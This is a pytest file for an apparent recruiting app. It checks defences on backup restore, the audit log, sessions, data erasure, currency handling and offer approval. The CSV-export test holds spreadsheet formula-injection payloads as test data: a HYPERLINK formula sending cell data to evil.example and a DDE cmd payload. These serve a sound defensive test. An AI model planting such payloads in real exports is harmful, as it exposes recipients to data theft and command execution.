"""Issue 18's findings at the service level, on SQLite and PostgreSQL: roles cannot be rewritten, sessions end
when they should, backups hold no secrets, erasure leaves nothing behind, exported cells run no formula."""

from __future__ import annotations

import csv
import io
from datetime import date, timedelta
from pathlib import Path

import orjson
import pytest
from sqlalchemy import Engine, inspect, select, text
from sqlalchemy.exc import DBAPIError

from labscout.errors import ConflictError, ForbiddenError, InvalidError
from labscout.pipeline import (
    activities,
    audit,
    backup,
    candidates,
    csvio,
    db,
    deals,
    money,
    offers,
    plan,
    policy,
    privacy,
    sessions,
    users,
)
from labscout.pipeline.candidates import CandidateIn
from labscout.pipeline.models import AuditEntry, Base, User, utcnow
from labscout.pipeline.offers import OfferIn
from labscout.pipeline.roles import Actor, Role
from pipeline.conftest import PASSWORD, Team
from pipeline.test_privacy import populated


def user_id(engine: Engine, email: str) -> int:
    with db.session_scope(engine) as session:
        return users.get_user_by_email(session, email).id


def rewrite(path: Path, change: object) -> None:
    data = orjson.loads(path.read_bytes())
    change(data)  # type: ignore[operator]
    path.write_bytes(orjson.dumps(data))


class TestRolesCannotBeRewritten:
    def test_restore_is_the_executives_alone(self, engine: Engine, team: Team, tmp_path: Path) -> None:
        dest = tmp_path / "backup.json"
        backup.backup(engine, team.hr, dest)  # HR may still take a backup
        with pytest.raises(ForbiddenError, match="may not restore"):
            backup.restore(engine, team.hr, dest, replace=True)

    def test_a_backup_that_promotes_hr_is_refused_unless_the_executive_confirms(
            self, engine: Engine, team: Team, tmp_path: Path) -> None:
        dest = tmp_path / "backup.json"
        backup.backup(engine, team.hr, dest)

        def promote(data: dict) -> None:  # type: ignore[type-arg]
            for row in data["tables"]["users"]:
                if row["email"] == "hr@lab.example":
                    row["role"] = "executive"
        rewrite(dest, promote)
        with pytest.raises(ConflictError, match=r"hr@lab.example: role hr -> executive.*confirming the user changes"):
            backup.restore(engine, team.executive, dest, replace=True)
        with db.session_scope(engine) as session:
            assert users.get_user_by_email(session, "hr@lab.example").role is Role.HR
        backup.restore(engine, team.executive, dest, replace=True, confirm_users=True)
        with db.session_scope(engine) as session:
            entry = audit.list_entries(session, team.executive, entity="database")[0]
        assert entry.action == "restore" and entry.actor_name == "Erin Exec"
        assert entry.after is not None and entry.after["users_changed"] == ["hr@lab.example: role hr -> executive"]

    def test_restore_never_rewrites_the_audit(self, engine: Engine, team: Team, tmp_path: Path) -> None:
        with db.session_scope(engine) as session:
            users.set_active(session, team.executive, user_id(engine, "view@lab.example"), False)
        dest = tmp_path / "backup.json"
        backup.backup(engine, team.hr, dest)
        with db.session_scope(engine) as session:
            before = [audit.snapshot(e) for e in session.scalars(select(AuditEntry).order_by(AuditEntry.id))]

        def hide_the_deactivation(data: dict) -> None:  # type: ignore[type-arg]
            trail = data["tables"]["audit_log"]
            data["tables"]["audit_log"] = [e for e in trail if e["action"] != "deactivate"]
            trail[0]["actor_name"] = "someone else"
        rewrite(dest, hide_the_deactivation)
        backup.restore(engine, team.executive, dest, replace=True)
        with db.session_scope(engine) as session:
            after = [audit.snapshot(e) for e in session.scalars(select(AuditEntry).order_by(AuditEntry.id))]
        assert after[:-1] == before and after[-1]["action"] == "restore"
        assert after[-1]["after"]["audit"]["differing_in_backup_kept_as_in_database"] == 1

    def test_the_database_refuses_to_update_or_delete_audit_entries(self, engine: Engine, team: Team) -> None:
        with db.session_scope(engine) as session:
            candidates.create_candidate(session, team.recruiter, CandidateIn(name="Ada", target_role="researcher"))
        for statement in ("UPDATE audit_log SET actor_name = 'nobody'", "DELETE FROM audit_log",
                          "UPDATE audit_log SET after = NULL",
                          "UPDATE audit_log SET after = NULL, redacted_at = at, action = 'x'"):
            with pytest.raises(DBAPIError, match="append-only"), engine.begin() as connection:
                connection.execute(text(statement))
        if engine.dialect.name == "postgresql":
            with pytest.raises(DBAPIError, match="append-only"), engine.begin() as connection:
                connection.execute(text("TRUNCATE audit_log"))
        with engine.begin() as connection:
            assert connection.execute(text("SELECT count(*) FROM audit_log")).scalar_one() == 5
        # The one change allowed: an erasure's redaction, stamped.
        with db.session_scope(engine) as session:
            entry = session.scalars(select(AuditEntry).where(AuditEntry.entity == "candidate")).one()
            audit.redact(entry, None, {"erased": True})
        with db.session_scope(engine) as session:
            entry = session.scalars(select(AuditEntry).where(AuditEntry.entity == "candidate")).one()
            assert entry.after == {"erased": True} and entry.redacted_at is not None

    def test_only_an_executive_deactivates_or_reactivates_an_executive(self, engine: Engine, team: Team) -> None:
        with db.session_scope(engine) as session:
            second = users.create_user(session, email="exec2@lab.example", name="Second Exec", role="executive",
                                       password=PASSWORD, actor=team.executive)
        with pytest.raises(ForbiddenError, match="only an executive"), db.session_scope(engine) as session:
            users.set_active(session, team.hr, second.id, False)
        with db.session_scope(engine) as session:
            users.set_active(session, team.executive, second.id, False)
        with pytest.raises(ForbiddenError, match="only an executive"), db.session_scope(engine) as session:
            users.set_active(session, team.hr, second.id, True)
        with db.session_scope(engine) as session:
            assert users.set_active(session, team.executive, second.id, True).active
            # HR still manages the others, and may bring back whom it deactivated
            viewer = user_id(engine, "view@lab.example")
            users.set_active(session, team.hr, viewer, False)
            assert users.set_active(session, team.hr, viewer, True).active

    def test_the_last_active_executive_cannot_be_removed(self, engine: Engine, team: Team) -> None:
        me = user_id(engine, "exec@lab.example")
        with pytest.raises(ConflictError, match="last active executive"), db.session_scope(engine) as session:
            users.set_active(session, team.executive, me, False)
        with pytest.raises(ConflictError, match="last active executive"), db.session_scope(engine) as session:
            users.set_role(session, team.executive, me, "hr")
        with pytest.raises(ForbiddenError, match="only an executive"), db.session_scope(engine) as session:
            users.set_role(session, team.hr, user_id(engine, "hr@lab.example"), "executive")
        with db.session_scope(engine) as session:
            users.set_role(session, team.executive, user_id(engine, "hr@lab.example"), "executive")
            assert users.set_role(session, team.executive, me, "hr").role is Role.HR


class TestSessions:
    def signed(self, engine: Engine, email: str) -> str:
        with db.session_scope(engine) as session:
            token, _ = sessions.start(session, user_id(engine, email), client="127.0.0.1")
        return token

    def alive(self, engine: Engine, token: str, **kw: object) -> bool:
        with db.session_scope(engine) as session:
            return sessions.find(session, token, **kw) is not None  # type: ignore[arg-type]

    @pytest.mark.parametrize("change", ["deactivate", "role", "password", "end"])
    def test_a_session_ends_with_the_change(self, engine: Engine, team: Team, change: str) -> None:
        token = self.signed(engine, "rec@lab.example")
        other = self.signed(engine, "view@lab.example")
        assert self.alive(engine, token)
        rec = user_id(engine, "rec@lab.example")
        with db.session_scope(engine) as session:
            if change == "deactivate":
                users.set_active(session, team.hr, rec, False)
            elif change == "role":
                users.set_role(session, team.hr, rec, "viewer")
            elif change == "password":
                users.set_password(session, team.hr, rec, "a brand new password")
            else:
                sessions.end_sessions(session, team.executive, email="rec@lab.example")
        assert not self.alive(engine, token) and self.alive(engine, other)
        with db.session_scope(engine) as session:
            listed = sessions.list_sessions(session, team.executive, email="rec@lab.example", include_ended=True)
        assert listed[0].ended_at is not None and listed[0].ended_why

    def test_idle_and_absolute_timeouts(self, engine: Engine) -> None:
        token = self.signed(engine, "rec@lab.example")
        now = utcnow()
        limits = sessions.Timeouts(idle=timedelta(minutes=30), absolute=timedelta(hours=12))
        for minutes in range(25, 12 * 60, 25):  # busy every 25 minutes: alive until the absolute limit
            assert self.alive(engine, token, timeouts=limits, now=now + timedelta(minutes=minutes))
        assert not self.alive(engine, token, timeouts=limits, now=now + timedelta(hours=12, minutes=1))
        idle = self.signed(engine, "rec@lab.example")
        assert not self.alive(engine, idle, timeouts=limits, now=utcnow() + timedelta(minutes=31))

    def test_only_user_managers_see_and_end_others_sessions(self, engine: Engine, team: Team) -> None:
        self.signed(engine, "exec@lab.example")
        self.signed(engine, "rec@lab.example")
        with db.session_scope(engine) as session:
            assert {s.email for s in sessions.list_sessions(session, team.recruiter)} == {"rec@lab.example"}
            assert len(sessions.list_sessions(session, team.hr)) == 2
            with pytest.raises(ForbiddenError):
                sessions.end_sessions(session, team.recruiter, email="exec@lab.example")
            with pytest.raises(ForbiddenError, match="executive"):
                sessions.end_sessions(session, team.hr, email="exec@lab.example")

    def test_a_malformed_token_is_no_session(self, engine: Engine) -> None:
        for token in ("", "é" * 40, "x" * 5000, "a.b", None):
            assert not self.alive(engine, token)  # type: ignore[arg-type]


class TestBackupSecrets:
    def test_no_password_hash_in_a_backup(self, engine: Engine, team: Team, tmp_path: Path) -> None:
        dest = tmp_path / "backup.json"
        backup.backup(engine, team.hr, dest)
        raw = dest.read_text()
        assert "argon2" not in raw and "password_hash" not in raw and "web_sessions" not in raw

    def test_users_restored_into_a_new_database_must_set_a_password(
            self, engine: Engine, empty_engine: Engine, team: Team, tmp_path: Path) -> None:
        dest = tmp_path / "backup.json"
        backup.backup(engine, team.hr, dest)
        backup.restore(empty_engine, users.BOOTSTRAP, dest)
        with db.session_scope(empty_engine) as session:
            assert not any(u.has_password for u in users.list_users(session, team.executive))
            with pytest.raises(ForbiddenError):
                users.authenticate(session, email="exec@lab.example", password=PASSWORD)
            users.set_password(session, team.executive, user_id(empty_engine, "exec@lab.example"), "new password 1")
        with db.session_scope(empty_engine) as session:
            assert users.authenticate(session, email="exec@lab.example", password="new password 1").name == "Erin Exec"

    def test_a_restore_into_the_same_database_keeps_passwords_and_takes_none_from_the_file(
            self, engine: Engine, team: Team, tmp_path: Path) -> None:
        dest = tmp_path / "backup.json"
        backup.backup(engine, team.hr, dest)
        with db.session_scope(engine) as session:
            known = session.scalars(select(User.password_hash).where(User.email == "view@lab.example")).one()

        def plant_a_hash(data: dict) -> None:  # type: ignore[type-arg]
            for row in data["tables"]["users"]:
                row["password_hash"] = known  # the attacker knows the viewer's password
        rewrite(dest, plant_a_hash)
        backup.restore(engine, team.executive, dest, replace=True)
        with db.session_scope(engine) as session:
            assert users.authenticate(session, email="hr@lab.example", password=PASSWORD).role is Role.HR
            with pytest.raises(ForbiddenError):
                users.authenticate(session, email="exec@lab.example", password="not the password")


def dump_everything(engine: Engine) -> str:
    """Every value of every table, as text: what a `grep` over the whole database sees."""
    chunks = []
    with engine.connect() as connection:
        for table in Base.metadata.sorted_tables:
            chunks.append(orjson.dumps([list(row) for row in connection.execute(table.select())],
                                       default=str).decode())
        names = inspect(connection).get_table_names()
    assert set(names) >= set(Base.metadata.tables)
    return "\n".join(chunks)


class TestErasure:
    SECRETS = ("Ada Secret", "ada.secret@example.org", "p-ada", "Zurich", "ETH", "more equity",
               "12 Elm Street", "+41 79 555 01 23")

    def test_grep_the_whole_database_for_the_erased_values(self, engine: Engine, team: Team,
                                                           tmp_path: Path) -> None:
        cid = populated(engine, team)
        with db.session_scope(engine) as session:
            d = deals.create_deal(session, team.executive, kind="acqui-hire", company="Tiny Lab", amount=10,
                                  notes="brings Ada Secret and two engineers")
            deals.add_key_person(session, team.executive, d.id, cid,
                                 note="home 12 Elm Street, +41 79 555 01 23")
            other = candidates.create_candidate(session, team.recruiter, CandidateIn(
                name="Bob Other", target_role="researcher"))
            activities.comment(session, team.recruiter, other.id, "knows Ada Secret from a workshop")
        before = dump_everything(engine)
        assert all(s in before for s in self.SECRETS)
        with db.session_scope(engine) as session:
            privacy.erase_person(session, team.hr, cid, "request by the person")
        after = dump_everything(engine)
        leaks = [s for s in self.SECRETS if s in after]
        with db.session_scope(engine) as session:
            kept = deals.get_deal(session, team.executive, d.id).notes
            said = activities.timeline(session, team.recruiter, other.id)[-1].body
        # The team's notes about others keep what they say about others, without the erased person's name.
        assert kept == "brings [erased] and two engineers" and said == "knows [erased] from a workshop"
        assert leaks == []

    def test_sqlite_file_holds_no_erased_bytes(self, backend: str, engine: Engine, team: Team) -> None:
        if backend != "sqlite":
            pytest.skip("a PostgreSQL heap keeps dead rows until VACUUM; the logical grep above covers it")
        cid = populated(engine, team)
        with db.session_scope(engine) as session:
            privacy.erase_person(session, team.hr, cid, "request by the person")
        with engine.connect() as connection:
            connection.exec_driver_sql("PRAGMA wal_checkpoint(TRUNCATE)")
        path = Path(engine.url.database or "")
        raw = path.read_bytes() + (path.with_name(path.name + "-wal").read_bytes()
                                   if path.with_name(path.name + "-wal").exists() else b"")
        assert b"ada.secret@example.org" not in raw and b"prefers Zurich" not in raw


class TestCsvFormulas:
    def test_cells_that_start_a_formula_are_neutralised_and_reimport_as_they_were(
            self, engine: Engine, team: Team, tmp_path: Path) -> None:
        evil = '=HYPERLINK("http://evil.example/?x="&A1,"click")'
        with db.session_scope(engine) as session:
            for name, notes in ((evil, "\r=cmd|' /C calc'!A0"), ("+1 trick", "\tTabbed"), ("-2 trick", None),
                                ("@SUM(A1)", None), ("Plain", "=1+1")):
                candidates.create_candidate(session, team.recruiter, CandidateIn(
                    name=name, target_role="researcher", notes=notes))
            out = io.StringIO()
            csvio.export_candidates(session, team.recruiter, out)
        for row in list(csv.reader(io.StringIO(out.getvalue())))[1:]:
            for cell in row:
                assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), row
        again = tmp_path / "again.csv"
        again.write_text(out.getvalue(), encoding="utf-8")
        with db.session_scope(engine) as session:
            ids = csvio.import_candidates(session, team.recruiter, again)
            names = [candidates.get_candidate(session, team.recruiter, i).name for i in ids]
        assert names[0] == evil and names[-1] == "Plain"


def offer_terms(**changes: object) -> OfferIn:
    today = date.today()
    values = {"base": 400_000, "bonus": 100_000, "signing": 50_000, "equity_value": 800_000,
              "start_date": today + timedelta(days=60), "expires_on": today + timedelta(days=14), **changes}
    return OfferIn(**values)  # type: ignore[arg-type]


def pending(engine: Engine, drafter: Actor, recruiter: Actor, **changes: object) -> int:
    with db.session_scope(engine) as session:
        c = candidates.create_candidate(session, recruiter, CandidateIn(name="Ada", target_role="researcher"))
        o = offers.create_offer(session, drafter, c.id, offer_terms(**changes))
        offers.submit_offer(session, drafter, o.id)
        return o.id


class TestMoneyHasACurrency:
    def test_an_offer_in_another_currency_is_compared_in_the_plans(self, engine: Engine, team: Team) -> None:
        with db.session_scope(engine) as session:
            c = candidates.create_candidate(session, team.recruiter, CandidateIn(name="Ada", target_role="researcher"))
            with pytest.raises(InvalidError, match="no exchange rate from JPY"):
                offers.create_offer(session, team.hr, c.id, offer_terms(currency="JPY", base=150_000_000))
        with db.session_scope(engine) as session:
            with pytest.raises(ForbiddenError):
                money.set_rate(session, team.hr, "JPY", "0.0067")
            money.set_rate(session, team.executive, "JPY", "0.0067")
        # 4 x 160M + 0 = 640M yen, 4.3M dollars: above the 1.5M threshold although the raw figure looks like yen
        oid = pending(engine, team.hr, team.recruiter, currency="JPY", base=150_000_000, bonus=10_000_000,
                      signing=0, equity_value=0)
        with db.session_scope(engine) as session:
            shown = offers.get_offer(session, team.hr, oid)
            assert shown.total_4y_plan == 4_288_000 and shown.plan_currency == "USD" and shown.needs_executive
            with pytest.raises(ForbiddenError, match="above the approval threshold"):
                offers.approve_offer(session, Actor(team.viewer.user_id, "Other HR", Role.HR), oid)

    def test_exposure_and_totals_add_converted_amounts(self, engine: Engine, team: Team) -> None:
        with db.session_scope(engine) as session:
            money.set_rate(session, team.executive, "EUR", "1.10")
        pending(engine, team.hr, team.recruiter, base=100_000, bonus=0, signing=0, equity_value=0)  # 400k USD
        pending(engine, team.hr, team.recruiter, currency="EUR", base=100_000, bonus=0, signing=0,
                equity_value=0)  # 400k EUR = 440k USD
        with db.session_scope(engine) as session:
            summary = plan.plan_summary(session, team.executive)
            assert summary.exposure == 840_000 and summary.currency == "USD"
            # Counting the plan in euros re-expresses the rates: the same offers, now in EUR.
            money.set_plan_currency(session, team.executive, "EUR")
            assert plan.plan_summary(session, team.executive).exposure == 400_000 + round(400_000 / 1.1)

    def test_a_missing_rate_is_refused_not_added_as_is(self, engine: Engine, team: Team) -> None:
        with db.session_scope(engine) as session:
            money.set_rate(session, team.executive, "GBP", "1.25")
        pending(engine, team.hr, team.recruiter, currency="GBP", base=100_000, bonus=0, signing=0, equity_value=0)
        with engine.begin() as connection:  # a rate lost (an older database, a hand edit)
            connection.execute(text("DELETE FROM exchange_rates"))
        with db.session_scope(engine) as session:
            with pytest.raises(InvalidError, match="no exchange rate from GBP"):
                plan.plan_summary(session, team.executive)
            assert plan.plan_summary(session, team.recruiter).exposure is None  # no money shown, nothing refused


class TestFourEyes:
    def test_nobody_approves_their_own_draft_not_even_the_executive(self, engine: Engine, team: Team) -> None:
        oid = pending(engine, team.executive, team.recruiter, base=100_000, bonus=0, signing=0, equity_value=0)
        with pytest.raises(ForbiddenError, match="nobody approves an offer they drafted"), \
                db.session_scope(engine) as session:
            offers.approve_offer(session, team.executive, oid)
        with db.session_scope(engine) as session:
            assert offers.approve_offer(session, team.hr, oid).status == "approved"

    def test_above_the_threshold_another_executive_approves(self, engine: Engine, team: Team) -> None:
        oid = pending(engine, team.executive, team.recruiter, base=5_000_000, equity_value=0)  # $26.8M-like
        with db.session_scope(engine) as session:
            second = users.actor_of(session.get(User, users.create_user(
                session, email="exec2@lab.example", name="Second Exec", role="executive", password=PASSWORD,
                actor=team.executive).id))
        for who, message in ((team.executive, "nobody approves"), (team.hr, "another executive")):
            with pytest.raises(ForbiddenError, match=message), db.session_scope(engine) as session:
                offers.approve_offer(session, who, oid)
        with db.session_scope(engine) as session:
            done = offers.approve_offer(session, second, oid)
        assert done.status == "approved" and done.approved_by == second.user_id

    def test_or_the_ceo_confirms_explicitly_as_the_team_configures(self, engine: Engine, team: Team) -> None:
        with db.session_scope(engine) as session:
            with pytest.raises(ForbiddenError):
                policy.set_approval_rule(session, team.hr, "ceo confirms", ceo_email="exec@lab.example")
            policy.set_approval_rule(session, team.executive, "ceo confirms", ceo_email="exec@lab.example")
        # The CEO drafted it: HR approves, then the CEO confirms; neither alone is enough.
        oid = pending(engine, team.executive, team.recruiter, base=5_000_000, equity_value=0)
        with pytest.raises(ForbiddenError, match="nobody approves"), db.session_scope(engine) as session:
            offers.approve_offer(session, team.executive, oid, confirm=True)
        with db.session_scope(engine) as session:
            half = offers.approve_offer(session, team.hr, oid)
            assert half.status == "pending_approval" and half.approved_by == team.hr.user_id
            with pytest.raises(ForbiddenError, match="confirms it explicitly"):
                offers.approve_offer(session, team.executive, oid)
            done = offers.approve_offer(session, team.executive, oid, confirm=True)
        assert done.status == "approved" and done.confirmed_by == team.executive.user_id
        # HR drafted it: the CEO's explicit approval is the second pair of eyes.
        other = pending(engine, team.hr, team.recruiter, base=5_000_000, equity_value=0)
        with db.session_scope(engine) as session:
            assert offers.approve_offer(session, team.executive, other, confirm=True).status == "approved"

    def test_a_recruiter_does_not_learn_an_offer_is_above_the_threshold(self, engine: Engine, team: Team) -> None:
        oid = pending(engine, team.hr, team.recruiter, base=5_000_000, equity_value=0)
        with db.session_scope(engine) as session:
            seen = offers.get_offer(session, team.recruiter, oid)
        assert seen.needs_executive is None and seen.total_4y_plan is None and seen.plan_currency is None
